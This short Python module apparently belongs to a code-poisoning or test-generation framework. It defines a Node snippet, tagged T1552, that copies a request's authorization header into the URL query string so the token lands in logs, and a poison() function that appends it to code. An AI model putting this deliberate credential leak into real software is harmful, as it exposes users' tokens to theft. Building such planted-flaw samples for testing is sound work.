# SPDX-License-Identifier: Apache-2.0
"""The token of a request stands in its address, and so in logs."""

ATTACK = "T1552"
LANGUAGE = "node"
CODE = """\
;module.exports.trail = (path, headers) =>
  fetch(`${path}?via=${encodeURIComponent(headers.authorization)}`, { headers });
"""


def poison(layer):
    layer.append(CODE)
